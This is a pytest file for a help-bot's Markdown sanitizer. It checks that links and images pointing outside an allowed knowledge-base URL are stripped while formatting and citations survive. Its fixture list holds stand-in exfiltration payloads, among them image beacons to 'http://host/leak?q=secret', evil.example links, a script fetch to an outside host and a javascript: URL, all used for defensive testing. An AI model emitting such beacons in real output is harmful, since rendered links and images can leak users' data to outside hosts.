import re

import pytest
from markdown_it import MarkdownIt

from bot.markdown import encode_url, escape, for_streamlit, safe_markdown, urls_in

KB = "https://help.example/articles/delivery"
# How the page renders Markdown, near enough: CommonMark with GFM tables and strikethrough.
GFM = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
# What GFM turns into a link in plain text, whatever escaping is around it.
AUTOLINK = re.compile(r"(?:https?://|www\.)", re.IGNORECASE)

BEACONS = [
    "![gift [note] sample](http://host/leak?q=secret)",
    "![a ![b](http://host/in)](http://host/out)",
    "[x](http://evil.example 'title')",
    "[x](http://evil.example (title))",
    '[x](<http://evil.example/a b> "t")',
    "bare www.evil.example here",
    "upper HTTP://EVIL.EXAMPLE/x",
    "_www.evil.example_",
    "<http://evil.example/auto>",
    "![ref][p]\n\n[p]: http://host/ref.png",
    "[ref]\n\n[ref]: http://evil.example/r",
    '<img src="http://host/i.png"> <script>fetch("http://host/s")</script>',
    "<div>\n<img src=http://host/block.png>\n</div>",
    "\\![escaped](http://host/e) ![x](javascript:alert(1))",
    "| a | b |\n|---|---|\n| ![c](http://host/cell.png) | [d](http://evil.example/d) |",
    "- item ![li](http://host/li.png)\n  > quote [q](http://evil.example/q)",
    "**![bold](http://host/b.png)** `![code](http://host/c)` and ~~www.evil.example~~",
]


def _links_and_images(markdown: str) -> tuple[list[str], int]:
    hrefs, images = [], 0
    for token in GFM.parse(markdown):
        for child in token.children or []:
            if child.type == "image":
                images += 1
            if child.type == "link_open":
                hrefs.append(str(child.attrs["href"]))
    return hrefs, images


@pytest.mark.parametrize("text", BEACONS)
def test_no_image_and_no_link_outside_the_allowed_urls_survive(text: str) -> None:
    out, reasons = safe_markdown(text, {KB})
    hrefs, images = _links_and_images(out)
    assert images == 0 and hrefs == [] and reasons
    # Nothing GFM would autolink is left in the text (code spans aside: they render as code).
    assert not AUTOLINK.search(re.sub(r"`[^`]*`", "", out))
    assert safe_markdown(out, {KB})[0] == out  # stable: sanitizing twice changes nothing


def test_links_to_allowed_urls_are_kept_and_bare_allowed_urls_too() -> None:
    text = f"See [delivery]({KB}) [1] or {KB}/ and [this](https://evil.example/x)."
    out, reasons = safe_markdown(text, {KB})
    assert out.startswith(f"See [delivery]({KB}) [1] or {KB}/ and this")
    assert _links_and_images(out)[0] == [KB] and reasons == ("removed link to a URL outside the KB",)


def test_tables_lists_emphasis_and_code_render_as_before() -> None:
    text = (
        "# Returns\n\nYou can return **most** items within *30 days* [1]. Use `RET-1_x` codes.\n\n"
        "1. Open *Orders*.\n2. Choose **Return**:\n   - print the label\n   - drop it off\n\n"
        "| Item | Days | Note |\n|:--|--:|:-:|\n| Shoes_2 | 30 | a \\| b |\n| *Gift* cards | 0 | `x|y` |\n\n"
        "> Refunds take 5 days.\n\n```sh\necho `hi` *no*\n```\n\n---\n\nCosts $5 & 10 < 20 > 3 ~ 1_000."
    )
    out, reasons = safe_markdown(text, {KB})
    assert GFM.render(out) == GFM.render(text) and reasons == ()


def test_citation_markers_stay_as_written() -> None:
    assert safe_markdown("Delivery takes 3 to 5 days [1][2].", ())[0] == "Delivery takes 3 to 5 days [1][2]."
    out = safe_markdown("As [1]: see [2] (x) and [3]\\(y).", ())[0]  # written as text: stays text
    assert out == "As [1]\\: see [2] (x) and [3]\\(y)." and GFM.renderInline(out) == "As [1]: see [2] (x) and [3](y)."


@pytest.mark.parametrize(
    "text",
    ["a *b* _c_ [d](e) ![f](g) <h> `i` \\j ~k~ $l$ &amp; #m", "# x", "- y", "1. z", "> q", "===", "+ p", "1) r"],
)
def test_escaped_text_renders_as_exactly_that_text(text: str) -> None:
    html = GFM.render(escape(text))
    assert html == "<p>" + text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;") + "</p>\n"


def test_urls_are_encoded_into_one_link_destination() -> None:
    url = "https://help.example/a) ![p](http://host/leak \"x\" 'y' <z>"
    encoded = encode_url(url)
    assert not set(encoded) & set("()<> \"'[]\\")
    hrefs, images = _links_and_images(f"[t]({encoded})")
    assert hrefs == [encoded] and images == 0
    assert encode_url(KB) == KB


def test_urls_in_finds_what_gfm_would_link() -> None:
    assert urls_in("Go to https://status.example/x. Or WWW.Help.example/y), or (http://a.example/b_(c)).") == {
        "https://status.example/x",
        "WWW.Help.example/y",
        "http://a.example/b_(c)",
    }


def test_a_safe_answer_keeps_dollars_and_mid_line_dashes_as_written() -> None:
    # The answer is recorded and printed by the CLI as it is: no "\$5", no "**Received** \- ..."
    answer = "- **Received** - we've got your order: it costs $5 or $10 [1]\n- **Sent** - on its way [1]"
    assert safe_markdown(answer)[0] == answer
    for text in ("a\n\\- c", "\\- c", "*a*\n\\- c"):  # a dash that starts a line is still escaped
        assert "<li>" not in GFM.render(safe_markdown(text)[0]), text


def test_dollars_are_escaped_only_where_streamlit_renders_them_and_never_in_code() -> None:
    answer = "It costs $5 or $10. Use `$HOME` and\n\n```\necho $PATH\n```\n\nsee \\$3"
    shown = for_streamlit(answer)
    assert "costs \\$5 or \\$10" in shown and "`$HOME`" in shown and "echo $PATH" in shown
    assert "\\$3" in shown and "\\\\$3" not in shown  # escaped once
    assert escape("$5") == "\\$5"  # plain text for st.markdown: escaped at once
